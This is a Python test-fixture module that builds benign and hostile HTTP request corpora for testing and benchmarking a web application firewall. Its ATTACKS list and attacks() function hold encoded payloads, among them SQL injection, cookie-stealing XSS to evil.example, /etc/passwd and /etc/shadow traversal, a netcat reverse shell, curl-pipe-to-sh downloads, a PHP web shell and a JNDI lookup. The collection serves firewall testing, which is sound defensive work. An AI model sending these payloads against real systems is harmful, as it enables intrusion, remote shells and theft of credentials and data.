"""Request corpora for the WAF: benign traffic (browser-like pages, JSON APIs, form posts, multipart
uploads of several file types) and an attack mix (SQLi, XSS, LFI, RFI, RCE, PHP, Java, session
fixation, scanners). Used by tests/waf (0 blocks on the benign corpus at PL1 Prevention) and by
bench/waf_bench.py (the same requests against aznet and nginx + ModSecurity).

Each item is (method, target, headers, body). Deterministic: no randomness, so runs compare.
"""

from __future__ import annotations

import json
import urllib.parse

Request = tuple[str, str, list[tuple[str, str]], bytes]

CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/120.0.0.0 Safari/537.36")
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"
SAFARI = ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
          "Version/17.1 Mobile/15E148 Safari/604.1")
HOST = "shop.contoso.com"


def _browser(ua: str, accept: str = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,"
             "image/webp,*/*;q=0.8", cookie: str | None = None, referer: str | None = None) -> list[tuple[str, str]]:
    h = [("Host", HOST), ("User-Agent", ua), ("Accept", accept), ("Accept-Language", "en-US,en;q=0.9,de;q=0.8"),
         ("Accept-Encoding", "gzip, deflate, br"), ("Connection", "keep-alive"),
         ("Upgrade-Insecure-Requests", "1"), ("Sec-Fetch-Dest", "document"), ("Sec-Fetch-Mode", "navigate"),
         ("Sec-Fetch-Site", "same-origin")]
    if cookie:
        h.append(("Cookie", cookie))
    if referer:
        h.append(("Referer", referer))
    return h


COOKIE = ("_ga=GA1.2.1431312342.1701234567; _gid=GA1.2.987654321.1701234567; sessionid=8f14e45fceea167a5a36dedd4bea2543; "
          "theme=dark; consent=%7B%22analytics%22%3Atrue%2C%22ads%22%3Afalse%7D")
JWT = ("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkphbmUgRG9lIiwiaWF0IjoxNzAxMjM0NTY3fQ."
       "SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c")


def _api(method: str, path: str, payload: object | None = None) -> Request:
    h = [("Host", "api.contoso.com"), ("User-Agent", CHROME), ("Accept", "application/json"),
         ("Authorization", f"Bearer {JWT}"), ("Origin", "https://shop.contoso.com")]
    body = b""
    if payload is not None:
        body = json.dumps(payload).encode()
        h += [("Content-Type", "application/json"), ("Content-Length", str(len(body)))]
    return (method, path, h, body)


def _form(path: str, fields: dict[str, str]) -> Request:
    body = urllib.parse.urlencode(fields).encode()
    h = _browser(FIREFOX, cookie=COOKIE, referer=f"https://{HOST}{path}") + [
        ("Content-Type", "application/x-www-form-urlencoded"), ("Content-Length", str(len(body))),
        ("Origin", f"https://{HOST}")]
    return ("POST", path, h, body)


def _multipart(path: str, files: list[tuple[str, str, str, bytes]], fields: dict[str, str]) -> Request:
    boundary = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
    parts: list[bytes] = []
    for k, v in fields.items():
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'.encode())
    for field_name, filename, ctype, data in files:
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{field_name}"; filename="{filename}"\r\n'
                     f"Content-Type: {ctype}\r\n\r\n".encode() + data + b"\r\n")
    body = b"".join(parts) + f"--{boundary}--\r\n".encode()
    h = _browser(CHROME, cookie=COOKIE, referer=f"https://{HOST}/upload") + [
        ("Content-Type", f"multipart/form-data; boundary={boundary}"), ("Content-Length", str(len(body)))]
    return ("POST", path, h, body)


PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000") + bytes(range(0, 64))
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n%%EOF\n"
CSV = b"id,name,price\n1,Blue mug,9.99\n2,Green teapot,24.50\n3,Espresso cup (set of 2),12.00\n"
TXT = b"Meeting notes\n- agree on the Q3 roadmap\n- review hiring plan\nThanks, Jane\n"
JPEG = bytes.fromhex("ffd8ffe000104a46494600010100000100010000") + b"\x00" * 32 + bytes.fromhex("ffd9")
DOCX = b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00" + b"word/document.xml" + b"\x00" * 16


def benign() -> list[Request]:
    out: list[Request] = []
    pages = ["/", "/index.html", "/products?category=kitchen&sort=price_asc&page=2",
             "/search?q=blue+coffee+mug&lang=en", "/search?q=men%27s+shoes+size+10",
             "/p/espresso-cup-set-of-2?ref=homepage&utm_source=newsletter&utm_medium=email&utm_campaign=winter_sale",
             "/static/css/site.min.css?v=3.2.1", "/static/js/app.bundle.js?v=20231201", "/images/logo@2x.png",
             "/favicon.ico", "/blog/2023/12/how-to-brew-better-coffee", "/account/orders?status=shipped&year=2023",
             "/help/faq#shipping", "/search?q=caf%C3%A9+au+lait", "/api/v1/products?ids=12,15,18&fields=name,price",
             "/cart?coupon=WINTER-2023", "/store-locator?lat=47.6062&lng=-122.3321&radius=25km",
             "/news?from=2023-11-01&to=2023-11-30", "/docs/getting-started/install.html",
             "/s?k=usb-c+cable+2m&crid=2M096C61O4MLT"]
    for i, p in enumerate(pages):
        ua = (CHROME, FIREFOX, SAFARI)[i % 3]
        accept = "text/css,*/*;q=0.1" if p.endswith(".css") or ".css?" in p else None
        out.append(("GET", p, _browser(ua, accept or "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
                                       cookie=COOKIE if i % 2 else None,
                                       referer=f"https://{HOST}/" if i % 3 else None), b""))
    out += [
        _api("GET", "/v2/users/1234/orders?limit=20&offset=40"),
        _api("POST", "/v2/orders", {"customer": {"name": "Jane O'Brien", "email": "jane.obrien@example.com",
                                                 "phone": "+1 (425) 555-0100"},
                                    "items": [{"sku": "MUG-BLUE-12", "qty": 2, "price": 9.99},
                                              {"sku": "TEA-GRN-01", "qty": 1, "price": 24.5}],
                                    "note": "Please leave the parcel at the back door, thanks!",
                                    "gift": False, "coupon": None}),
        _api("POST", "/v2/users/1234/profile", {"displayName": "Jane", "bio": "Coffee lover, runner & amateur "
                                                "photographer. Seattle, WA.", "timezone": "America/Los_Angeles",
                                                "newsletter": True}),
        _api("POST", "/v2/carts/77", {"op": "replace", "path": "/items/0/qty", "value": 3}),
        _api("POST", "/v2/search", {"query": "red running shoes", "filters": {"size": [9, 9.5, 10],
                                                                            "brand": ["Contoso", "Fabrikam"]},
                                    "sort": "relevance"}),
        _api("POST", "/v2/reviews", {"productId": 15, "rating": 5, "title": "Great mug",
                                     "text": "Holds heat well; the handle is comfortable. Would buy again (5/5)."}),
        _api("POST", "/v2/events", [{"type": "page_view", "url": "https://shop.contoso.com/p/15",
                                     "ts": "2023-12-04T10:15:30Z"},
                                    {"type": "click", "target": "add-to-cart", "ts": "2023-12-04T10:15:42Z"}]),
        _form("/login", {"username": "jane.obrien@example.com", "password": "Tr0ub4dor&3-horse", "remember": "on",
                         "csrf_token": "f2a9c1e4b7d84c0e9a3b5d6e7f8a9b0c"}),
        _form("/search", {"q": "stainless steel water bottle 750ml", "category": "outdoor"}),
        _form("/contact", {"name": "Jane O'Brien", "email": "jane@example.com", "subject": "Order #10234 question",
                           "message": "Hi, my order arrived yesterday but one mug was chipped. Could you send a "
                                      "replacement? I've attached a photo on the upload page. Thanks a lot!"}),
        _form("/checkout/address", {"line1": "1 Microsoft Way", "line2": "Building 92", "city": "Redmond",
                                    "state": "WA", "zip": "98052", "country": "US"}),
        _form("/newsletter", {"email": "j.doe+news@example.org", "frequency": "weekly"}),
        _form("/comments", {"post": "how-to-brew-better-coffee", "author": "Sam",
                            "body": "Great tips! I'd add: grind right before brewing, and use water at ~94C."}),
        _multipart("/upload", [("file", "photo.png", "image/png", PNG)], {"description": "chipped mug"}),
        _multipart("/upload", [("file", "invoice-10234.pdf", "application/pdf", PDF)], {"order": "10234"}),
        _multipart("/import", [("data", "products.csv", "text/csv", CSV)], {"mode": "append"}),
        _multipart("/upload", [("file", "notes.txt", "text/plain", TXT)], {}),
        _multipart("/upload", [("avatar", "me.jpg", "image/jpeg", JPEG)], {"crop": "square"}),
        _multipart("/upload", [("file", "report.docx",
                                "application/vnd.openxmlformats-officedocument.wordprocessingml.document", DOCX)],
                   {"folder": "reports/2023"}),
        _multipart("/upload", [("files", "a.txt", "text/plain", b"first file\n"),
                               ("files", "b.json", "application/json", b'{"hello": "world"}')], {"batch": "1"}),
    ]
    return out


def rest_methods() -> list[Request]:
    """PUT/PATCH/DELETE API calls: CRS's 911100 (Azure: "Lock-down methods (PUT, PATCH)") flags them."""
    return [_api("PUT", "/v2/users/1234/profile", {"displayName": "Jane"}),
            _api("PATCH", "/v2/carts/77", {"op": "replace", "path": "/items/0/qty", "value": 3}),
            _api("DELETE", "/v2/carts/77/items/3")]


ATTACKS: list[tuple[str, str]] = [
    ("sqli", "/products?id=1%27%20OR%20%271%27%3D%271"),
    ("sqli", "/products?id=1%20UNION%20SELECT%20username%2C%20password%20FROM%20users--"),
    ("sqli", "/search?q=%27%3B%20DROP%20TABLE%20users%3B--"),
    ("sqli", "/item?id=1%20AND%20SLEEP(5)"),
    ("sqli", "/login?user=admin%27--&pass=x"),
    ("sqli", "/item?id=1%20AND%201%3D1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2Cversion()--"),
    ("sqli", "/list?order=name%3B%20WAITFOR%20DELAY%20%270%3A0%3A5%27--"),
    ("sqli", "/q?x=1%27%20and%20extractvalue(1%2Cconcat(0x7e%2C(select%20database())))--"),
    ("xss", "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("xss", "/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
    ("xss", "/p?name=%3Csvg%2Fonload%3Dalert(1)%3E"),
    ("xss", "/p?url=javascript%3Aalert(1)"),
    ("xss", "/p?x=%22%3E%3Ciframe%20src%3D%22http%3A%2F%2Fevil.example%22%3E"),
    ("xss", "/p?x=%3Cbody%20onload%3Dalert(%27x%27)%3E"),
    ("lfi", "/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
    ("lfi", "/view?page=....%2F%2F....%2F%2Fetc%2Fshadow"),
    ("lfi", "/read?f=%2Fproc%2Fself%2Fenviron"),
    ("lfi", "/include?path=..%5C..%5Cwindows%5Cwin.ini"),
    ("rfi", "/index.php?page=http%3A%2F%2F203.0.113.7%2Fshell.txt%3F"),
    ("rfi", "/load?template=http://evil.example/x.php?"),
    ("rce", "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"),
    ("rce", "/run?cmd=%7C%20nc%20-e%20%2Fbin%2Fsh%20203.0.113.7%204444"),
    ("rce", "/exec?c=%24(curl%20http%3A%2F%2Fevil.example%2Fx.sh%7Csh)"),
    ("rce", "/do?x=%60wget%20http%3A%2F%2Fevil.example%2Fa%60"),
    ("rce", "/win?x=powershell%20-enc%20SQBFAFgA"),
    ("php", "/index.php?x=%3C%3Fphp%20system(%24_GET%5B%27c%27%5D)%3B%20%3F%3E"),
    ("php", "/p?f=php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dindex.php"),
    ("php", "/p?x=O%3A8%3A%22stdClass%22%3A1%3A%7Bs%3A1%3A%22a%22%3Bs%3A1%3A%22b%22%3B%7D"),
    ("java", "/api?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"),
    ("java", "/s?x=java.lang.Runtime.getRuntime().exec(%22id%22)"),
    ("nodejs", "/n?x=require(%27child_process%27).exec(%27id%27)"),
    ("fixation", "/login?PHPSESSID=abcdef1234567890"),
    ("protocol", "/x?a=%0d%0aSet-Cookie%3A%20evil%3D1"),
    ("scanner", "/"),
]
_SCANNER_UA = "sqlmap/1.7.2#stable (https://sqlmap.org)"


def attacks() -> list[tuple[str, Request]]:
    out: list[tuple[str, Request]] = []
    for kind, target in ATTACKS:
        h = _browser(CHROME if kind != "scanner" else _SCANNER_UA, cookie=COOKIE)
        out.append((kind, ("GET", target, h, b"")))
    body = b"username=admin%27%20OR%201%3D1--&password=x"
    out.append(("sqli", ("POST", "/login", _browser(FIREFOX) + [
        ("Content-Type", "application/x-www-form-urlencoded"), ("Content-Length", str(len(body)))], body)))
    jbody = json.dumps({"comment": "<script>fetch('//evil.example/?c='+document.cookie)</script>"}).encode()
    out.append(("xss", ("POST", "/api/comments", _browser(CHROME) + [
        ("Content-Type", "application/json"), ("Content-Length", str(len(jbody)))], jbody)))
    return out


def to_raw(req: Request) -> bytes:
    method, target, headers, body = req
    head = f"{method} {target} HTTP/1.1\r\n" + "".join(f"{k}: {v}\r\n" for k, v in headers)
    if body and not any(k.lower() == "content-length" for k, _ in headers):
        head += f"Content-Length: {len(body)}\r\n"
    return head.encode("latin-1") + b"\r\n" + body
